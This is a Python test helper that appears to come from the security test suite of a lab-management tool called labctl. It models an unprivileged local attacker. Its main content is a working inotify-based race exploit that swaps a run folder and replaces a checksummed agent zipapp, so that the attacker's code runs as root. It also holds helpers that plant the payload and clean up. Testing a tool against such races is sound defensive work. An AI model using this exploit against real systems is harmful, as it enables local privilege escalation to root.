"""An unprivileged local user of a lab host, attacking what labctl does there as root.

Everything here runs on the lab host as uid :data:`UID` (``setpriv``, no passwd entry needed):
the user makes folders and symlinks where labctl might look, and runs :data:`WATCHER`, which
swaps a run folder labctl creates for one of the user's own and, once labctl has read the
pushed agent back for its checksum, puts the user's own zipapp in its place. The user's zipapp
(:func:`evil_pyz`) writes ``uid=N`` to :data:`PWNED`: a file there owned by root means the
user's code ran as root.
"""

from __future__ import annotations

import io
import shlex
import zipfile

from labctl.hosts import HostRecord
from tests.helpers import remote

#: the attacker's uid on the lab host (no account needed)
UID = 4242
#: the attacker's working folder on the host (its own, private)
HOME = "/var/tmp/mallory"
#: what the attacker's code writes when it runs
PWNED = "/tmp/pwned"
#: the attacker's zipapp on the host
EVIL = f"{HOME}/evil.pyz"
#: the watcher's log on the host
WATCH_LOG = f"{HOME}/watch.log"

#: Swap a run folder for one of the attacker's, then the checked agent for the attacker's own.
#: inotify (through ctypes) so the swap wins the race: labctl's checksum read ends with a close,
#: and the launch comes one SSH round trip later.
WATCHER = r"""
import ctypes, os, shutil, struct, sys, time
runs, evil, bound = sys.argv[1], sys.argv[2], float(sys.argv[3])
libc = ctypes.CDLL("libc.so.6", use_errno=True)
IN_CLOSE_NOWRITE, IN_MOVED_TO, IN_CREATE = 0x10, 0x80, 0x100
def log(msg):
    sys.stdout.write("%.3f %s\n" % (time.time(), msg)); sys.stdout.flush()
fd = libc.inotify_init()
libc.inotify_add_watch(fd, runs.encode(), IN_CREATE | IN_MOVED_TO)
log("watching " + runs)
end = time.time() + bound
def events():
    while time.time() < end:
        buf = os.read(fd, 65536)
        i = 0
        while i < len(buf):
            wd, mask, _cookie, size = struct.unpack_from("iIII", buf, i)
            name = buf[i + 16:i + 16 + size].rstrip(b"\0").decode()
            i += 16 + size
            yield wd, mask, name
watched, swapped = {}, set()
for wd, mask, name in events():
    if wd not in watched and name not in swapped and not name.startswith(".") and mask & IN_CREATE:
        swapped.add(name)
        victim = os.path.join(runs, name)
        os.rename(victim, os.path.join(runs, ".moved-" + name))
        os.mkdir(victim)
        os.chmod(victim, 0o777)
        shutil.copy(evil, os.path.join(victim, ".evil"))
        watched[libc.inotify_add_watch(fd, victim.encode(), IN_CLOSE_NOWRITE)] = victim
        log("swapped run folder " + victim)
    elif wd in watched and mask & IN_CLOSE_NOWRITE and name.endswith(".pyz"):
        os.rename(os.path.join(watched[wd], ".evil"), os.path.join(watched[wd], name))
        log("replaced " + name + " after its checksum read")
        break
log("watcher done")
"""

_EVIL_MAIN = f"import os\nf = open({PWNED!r}, 'w')\nf.write('uid=%d\\n' % os.getuid())\nf.close()\n"


def evil_pyz() -> bytes:
    """The attacker's zipapp: a __main__ that says whose code it runs as."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("__main__.py", _EVIL_MAIN)
    return buf.getvalue()


def as_user(command: str) -> str:
    """``command`` as the attacker, from a root shell on the host."""
    return f"setpriv --reuid {UID} --regid {UID} --clear-groups sh -c {shlex.quote(command)}"


def prepare(host: HostRecord) -> None:
    """The attacker's own folder on the host, holding its zipapp and the watcher."""
    remote(host, f"rm -rf {HOME} {PWNED}; mkdir -m 700 {HOME} && chown {UID}:{UID} {HOME}")
    from labctl.transport import SSHTransport

    with SSHTransport(host) as t:
        with t.sftp.open(EVIL, "wb") as fh:
            fh.write(evil_pyz())
        with t.sftp.open(f"{HOME}/watch.py", "w") as fh:
            fh.write(WATCHER)
    remote(host, f"chown {UID}:{UID} {EVIL} {HOME}/watch.py")


def start_watcher(host: HostRecord, runs: str, bound: float = 120) -> None:
    """The watcher on ``runs`` (a folder the attacker made), in the background, as the user."""
    cmd = f"python3 {HOME}/watch.py {runs} {EVIL} {bound:.0f} >{WATCH_LOG} 2>&1 </dev/null &"
    remote(host, as_user(f"setsid {cmd}"))
    remote(host, f"for i in $(seq 50); do [ -s {WATCH_LOG} ] && break; sleep 0.1; done")


def stop_watcher(host: HostRecord) -> str:
    """The watcher stopped; what it logged."""
    remote(host, f"pkill -u {UID} -f {HOME}/watch.py; true")
    return remote(host, f"cat {WATCH_LOG} 2>/dev/null; true")


def pwned(host: HostRecord) -> str:
    """What the attacker's code wrote, with the owner of the file ('' when it never ran)."""
    return remote(host, f"[ -e {PWNED} ] && stat -c '%U' {PWNED} && cat {PWNED}; true").strip()


def root_files_under(host: HostRecord, *places: str) -> list[str]:
    """Files and folders owned by root in places the attacker controls."""
    quoted = " ".join(shlex.quote(p) for p in places)
    out = remote(host, f"find {quoted} -mindepth 1 -uid 0 2>/dev/null; true")
    return [line for line in out.splitlines() if line.strip()]


def clean(host: HostRecord, *places: str) -> None:
    """Everything the attacker made, gone (as root)."""
    remote(host, f"pkill -u {UID}; rm -rf {HOME} {PWNED} " + " ".join(map(shlex.quote, places)))
